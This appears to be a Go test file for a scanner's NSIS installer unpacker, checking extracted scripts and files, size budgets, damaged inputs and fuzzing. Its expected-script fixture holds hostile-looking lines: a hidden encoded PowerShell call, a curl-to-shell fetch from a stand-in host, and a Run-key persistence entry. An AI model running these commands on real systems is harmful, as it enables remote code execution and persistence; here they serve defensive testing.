package unpack

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"meetguard"
)

var nsisKinds = []string{"lzma-solid", "lzma-plain", "zlib-solid", "zlib-plain", "bzip2-solid", "bzip2-plain", "ansi", "amd64"}

// makeNSIS puts the data of an installer behind an inert program, on the border
// of 512 bytes that the stub looks for it.
func makeNSIS(t testing.TB, kind string) []byte {
	t.Helper()
	return makeProgram(programKit{overlay: instFile(t, "nsis/"+kind+".bin")})
}

const wantNSISScript = `"$INSTDIR\readme.txt" --run
powershell.exe -w hidden -enc SQBuAGUAcgB0AA==
start "" "https://lure.invalid/x" args here
cmd.exe /c curl https://lure.invalid/a | sh
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "inert" /d "$INSTDIR\x.exe"
`

// TestNSIS holds the files against what 7z unpacks.
func TestNSIS(t *testing.T) {
	plugin := map[string]string{"ansi": "10240 6fed77edb570a921", "amd64": "11264 1d63ae99c086e8b3"}
	for _, kind := range nsisKinds {
		data := makeNSIS(t, kind)
		if got := Wrapper(meetguard.FormatPE, data); got != wrapperNSIS {
			t.Errorf("%s: wrapper is %q", kind, got)
		}
		all, err := instWalk(meetguard.FormatPE, data, instBudget())
		if err != nil || len(all) == 0 || all[0].name != "script.cmd" || all[0].role != RoleLaunch || all[0].text != wantNSISScript {
			t.Errorf("%s: got %v and\n%s", kind, err, instList(all))
			continue
		}
		dll := plugin[kind]
		if dll == "" {
			dll = "10752 607b24ae6b2daf3e"
		}
		want := `%TEMP%/a.bat||"start calc\r\n"` + "\n" + `$INSTDIR/readme.txt||"hello from nsis\n"` + "\n" +
			"%TEMP%/sub/big.bin||13893 2e57c67a8bbe706a\n$PLUGINSDIR/nsExec.dll||" + dll + "\n"
		if got := instList(all[1:]); got != want {
			t.Errorf("%s: got\n%swant\n%s", kind, got, want)
		}
	}
}

// TestNSISBudget sees that what is skipped in a solid installer counts.
func TestNSISBudget(t *testing.T) {
	budget := instBudget()
	budget.Bytes = 20_000
	var limit *LimitError
	err := Walk(meetguard.FormatPE, makeNSIS(t, "lzma-solid"), Options{Budget: budget}, func(m Member) error {
		if m.Name != "$PLUGINSDIR/nsExec.dll" {
			return nil
		}
		_, err := m.Open()
		return err
	})
	if !errors.As(err, &limit) {
		t.Errorf("got %v", err)
	}
}

func TestNSISDamaged(t *testing.T) {
	for _, kind := range []string{"lzma-plain", "zlib-solid", "bzip2-plain"} {
		instMangle(t, meetguard.FormatPE, makeNSIS(t, kind), 1999)
	}
}

// TestNSISNotRead sees that an installer that is packed in another way is named.
func TestNSISNotRead(t *testing.T) {
	data := bytes.Replace(makeNSIS(t, "lzma-solid"), []byte{0x5d, 0, 0, 0x80, 0}, []byte{0x5e, 0, 0, 0x80, 0}, 1)
	_, err := instWalk(meetguard.FormatPE, data, instBudget())
	if !errors.Is(err, ErrUnsupported) || !strings.Contains(err.Error(), "NSIS") {
		t.Errorf("got %v", err)
	}
}

func FuzzNSIS(f *testing.F) {
	for _, kind := range nsisKinds {
		f.Add(instFile(f, "nsis/"+kind+".bin"))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		instFuzz(t, meetguard.FormatPE, makeProgram(programKit{overlay: data}))
	})
}

// FuzzNSISScript reads headers that need not be compressed.
func FuzzNSISScript(f *testing.F) {
	for _, kind := range nsisKinds {
		p := openProgram(makeNSIS(f, kind))
		a := &nsisArchive{opt: Options{Budget: instBudget()}}
		if err := a.openHeader(p.nsisHeader()); err != nil {
			f.Fatal(err)
		}
		f.Add(a.header)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if s, err := readNSISScript(data); err == nil && s.commands.Len() > maxNSISText {
			t.Errorf("%d bytes of commands", s.commands.Len())
		}
	})
}
